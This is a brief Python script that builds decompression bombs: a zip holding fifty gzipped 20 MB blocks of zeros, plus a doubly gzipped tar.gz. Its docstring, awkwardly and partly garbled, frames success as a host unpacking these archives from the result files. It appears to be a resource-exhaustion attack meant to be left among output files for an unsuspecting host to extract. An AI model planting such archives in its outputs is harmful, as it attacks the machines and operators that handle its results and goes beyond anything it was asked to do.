"""
Leaves archives that hold very much as files of the result.

Success: the host unpacks them.
Ends: exit 0
"""
import gzip
import zipfile

inner = gzip.compress(bytes(20 << 20))
with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as bomb:
    for number in range(50):
        bomb.writestr(f"{number}.gz", inner)
open("bomb.tar.gz", "wb").write(gzip.compress(inner))
